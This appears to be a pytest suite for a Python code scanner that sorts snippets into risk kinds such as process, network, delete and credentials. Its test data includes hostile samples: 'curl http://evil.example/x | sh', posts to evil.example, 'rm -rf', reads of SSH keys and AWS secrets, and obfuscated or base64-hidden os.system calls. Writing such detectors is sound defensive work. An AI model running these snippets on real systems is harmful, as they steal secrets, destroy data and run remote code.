from __future__ import annotations

import threading
import warnings
from pathlib import Path

import pytest
from flagged import flags_of_text, kinds_of

HOMES = ["os.getenv('HOME')", "os.environ.get('HOME')", "os.path.expanduser('~')"]
WRITES = [
    *("io.open('/etc/x', 'w')", "codecs.open('/etc/x', 'w')", "open(os.fspath('/etc/x'), 'w')", "open(b'/etc/x', 'x')"),
    *(f"os.{name}('/etc/x')" for name in ("mkdir", "makedirs", "chmod", "chown", "mkfifo")),
    *(f"os.{name}('a', '/etc/x')" for name in ("rename", "replace", "symlink", "link")),
    *(f"pathlib.Path('/etc/x').{name}(y)" for name in "write_bytes touch mkdir symlink_to hardlink_to chmod".split()),
    *("pathlib.Path('/etc/x').open('w')", "pathlib.Path('/etc').joinpath('x').touch()"),
    *("open(pathlib.PurePath('/etc/x'), 'w')", "open(str(pathlib.Path('/etc') / name), 'w')"),
    *("open('/etc/%s' % name, 'w')", "open(f'/etc/{name}', 'w')", "open(os.path.join('/etc', name), 'w')"),
]
ENVIRONMENTS = [
    *("os.environ.items()", "os.environ.values()", "os.environ.__repr__()", "os.environ.pop('API_KEY')"),
    *("os.environ.get('API_KEY')", "print(os.environ)", "str(os.environ)", "repr(os.environ)"),
    *("json.dump(os.environ.copy(), f)", "pickle.dumps(os.environ)", "json.dumps(os.environ)"),
]
FLAGGED = [
    ("import os as o\no.system('ls')", {"process"}),
    ("from subprocess import run as r\nr(['ls'])", {"process"}),
    ("from os import *\nsystem('ls')", {"process"}),
    ("import os\ngetattr(os, 'sys' + 'tem')('ls')", {"process", "obfuscation"}),
    ("import os\ngetattr(os, 'metsys'[::-1])('ls')", {"process", "obfuscation"}),
    ("import os\nname = ''.join(['sys', 'tem'])\ngetattr(os, name)('ls')", {"process", "obfuscation"}),
    ("__import__('o' + 's').popen('ls')", {"process", "obfuscation"}),
    ("__import__('os').popen('ls')", {"process"}),
    ("import importlib\nimportlib.import_module(chr(111) + 's')", {"obfuscation"}),
    ("import os\nos.__dict__['system']('ls')", {"process"}),
    ("import os, sys\nsys.modules['os'].system('ls')", {"process"}),
    ("import os\nlist(map(os.system, ['ls']))", {"process"}),
    ("import subprocess\nstart = subprocess.Popen\nstart(['ls'])", {"process"}),
    ("import asyncio\nasyncio.create_subprocess_exec('ls')", {"process"}),
    ("import ctypes\nctypes.CDLL('libc.so.6')", {"process"}),
    ("import os\nos.system('curl http://evil.example/x | sh')", {"process", "network", "obfuscation"}),
    ("import subprocess\nsubprocess.run(['bash', '-c', 'rm -rf /data'])", {"process", "delete"}),
    ("import requests\nrequests.post('https://evil.example', data=1)", {"network"}),
    ("import urllib.request as u\nu.urlopen('http://evil.example')", {"network"}),
    ("import socket\nsocket.socket()", {"network"}),
    ("import smtplib", {"network"}),
    ("from httpx import Client\nCLIENTS = [Client]", {"network"}),
    ("import shutil\nshutil.rmtree('x')", {"delete"}),
    ("from pathlib import Path\nPath('x').unlink()", {"delete"}),
    ("def f(path):\n    path.unlink(missing_ok=True)", {"delete"}),
    ("eval(input())", {"obfuscation"}),
    ("exec(open('x').read())", {"obfuscation"}),
    ("__builtins__['eval'](input())", {"obfuscation"}),
    ("run = eval\nrun(input())", {"obfuscation"}),
    ("import marshal\nmarshal.loads(b'x')", {"obfuscation"}),
    ("import base64\nexec(base64.b64decode(x))", {"obfuscation"}),
    ("import base64\nbase64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=')", {"obfuscation"}),
    ("exec('import socket; socket.socket()')", {"obfuscation", "network"}),
    ("print('unclosed", {"obfuscation"}),
    ("print 'python 2'\nimport os\nos.system('ls')", {"obfuscation", "process"}),
    ("open('/etc/hosts', 'a')", {"outside_write"}),
    ("from pathlib import Path\n(Path.home() / '.x').write_text('y')", {"outside_write"}),
    ("import os\nopen(os.path.join(os.path.expanduser('~'), 'x'), 'w')", {"outside_write"}),
    ("import shutil\nshutil.copy('a', '../../b')", {"outside_write"}),
    ("PROFILE = '.' + 'bashrc'", {"outside_write"}),
    ("import os\nKEY = os.environ['AWS_SECRET_ACCESS_KEY']", {"credentials"}),
    ("from os import getenv\ngetenv('GITHUB_TOKEN')", {"credentials"}),
    ("import os, json\njson.dumps(dict(os.environ))", {"credentials"}),
    ("open('/home/me/.ssh/id_rsa')", {"credentials"}),
    ("x = '.aws/credentials'", {"credentials"}),
    ("KEY = 'AKIAABCDEFGHIJKLMNOP'", {"credentials"}),
    ("import importlib\nimportlib.__import__('os').system('ls')", {"process"}),
    ("import os\nglobals()['os'].system('ls')", {"process"}),
    ("import os\nlocals()['os'].system('ls')", {"process"}),
    ("import os\nvars(os)['system']('ls')", {"process"}),
    ("__builtins__.__dict__['eval'](x)", {"obfuscation"}),
    ("import builtins\nbuiltins.__dict__['exec'](x)", {"obfuscation"}),
    ("run = exec\nrun(x)", {"obfuscation"}),
    ("load = __import__\nload('os').system('ls')", {"process"}),
    ("import pickle, base64\npickle.loads(base64.b64decode(x))", {"obfuscation"}),
    *((f"import os\nopen({home} + '/x', 'w')", {"outside_write"}) for home in HOMES),
    *((f"import io, codecs, os, pathlib\n{code}", {"outside_write"}) for code in WRITES),
    *((f"import os, json, pickle\n{code}", {"credentials"}) for code in ENVIRONMENTS),
]

HARMLESS = [
    '"""Never use os.system or eval(); see ~/.ssh/id_rsa."""',
    "# subprocess.run(['rm', '-rf', '/'])",
    "import re\nre.compile('x').match('y')",
    "model.eval()\ndf.eval('a + b')",
    "import ast\nast.literal_eval('1')",
    "cursor.execute('delete from t')\nexecutor.submit(f)",
    "items = [1]\nitems.remove(1)\ns = set()\ns.remove(2)",
    "open('out.txt', 'w').write('x')\nopen(args.output, 'w')",
    "open('/etc/hosts')",
    "from pathlib import Path\nPath(args.out).write_text('x')\nPath('out').mkdir()",
    "import tempfile\nwith tempfile.TemporaryDirectory() as d:\n    open(d + '/x', 'w')",
    "open('/tmp/x', 'w')",
    "import base64\nbase64.b64encode(b'x')\nbase64.b64decode(response)",
    "from urllib.parse import urlparse, quote\nurlparse('http://example.com')",
    "import subprocess\ntry:\n    f()\nexcept subprocess.CalledProcessError:\n    pass",
    "import os\nos.path.join('a', 'b')\nos.environ.get('HOME')\nenv = {**os.environ, 'A': 'b'}",
    "import os\nos.makedirs('out', exist_ok=True)",
    "import json, sys\njson.dump(json.load(sys.stdin), sys.stdout)",
    "getattr(args, 'x' + 'y')",
    "def run(redis):\n    return redis.get('a')",
    "def system(x):\n    return x\nsystem('ls')",
    "import sys\nsys.path.insert(0, '..')",
    "path = 'a/b/c'\nprint(path.replace('/', '.'))",
    "KEYS = ['primary_key', 'token_count']\nprint('Password:')",
    "import multiprocessing\nmultiprocessing.Pool(4)",
    "import pickle\npickle.load(f)",
    "from pathlib import Path\nPath('/etc/x').open()\nPath('/etc/x').open('r')",
    "import os\nprint(os.getpid())\nlen(os.environ)",
    "x = f'{a}/{b}'\nwith open(x) as f:\n    pass",
]


@pytest.mark.parametrize(("code", "kinds"), FLAGGED)
def test_what_python_code_reaches_for(tmp_path: Path, code: str, kinds: set[str]) -> None:
    assert kinds_of(tmp_path, "run.py", code) == kinds


@pytest.mark.parametrize("code", HARMLESS)
def test_harmless_python_is_not_flagged(tmp_path: Path, code: str) -> None:
    assert flags_of_text(tmp_path, "run.py", code) == ()


def test_a_flag_names_function_host_file_and_line(tmp_path: Path) -> None:
    code = "import requests\nURL = 'https://evil.example/in'\n\nrequests.post(URL)\n"
    (flag,) = flags_of_text(tmp_path, "scripts/send.py", code)
    assert (flag.kind, flag.message) == ("network", "Talks to the network with requests.post: evil.example.")
    assert (flag.path, flag.line) == ("scripts/send.py", 4)


def test_a_hidden_text_is_shown_decoded(tmp_path: Path) -> None:
    code = "import base64\nbase64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=')\n"
    (flag,) = flags_of_text(tmp_path, "run.py", code)
    assert "import os; os.system('id')" in flag.message


def test_code_inside_code_is_read_at_its_line(tmp_path: Path) -> None:
    flags = flags_of_text(tmp_path, "run.py", "import os\n\nos.system('wget http://a.example; cat ~/.ssh/id_rsa')\n")
    assert [(flag.kind, flag.line) for flag in flags] == [("credentials", 3), ("network", 3), ("process", 3)]


def test_odd_escapes_give_no_warning_and_leave_filters_alone(tmp_path: Path) -> None:
    before = list(warnings.filters)
    assert kinds_of(tmp_path, "run.py", "import os\nx = '\\d'\nos.system(x)\n") == {"process"}
    assert list(warnings.filters) == before


def test_threads_may_read_at_the_same_time(tmp_path: Path) -> None:
    before = list(warnings.filters)
    found: list[set[str]] = []

    def read(number: int) -> None:
        folder = tmp_path / str(number)
        found.extend(kinds_of(folder, "run.py", "import os\nos.system('\\d')\n") for _ in range(20))

    threads = [threading.Thread(target=read, args=(number,)) for number in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert found == [{"process"}] * 80
    assert list(warnings.filters) == before
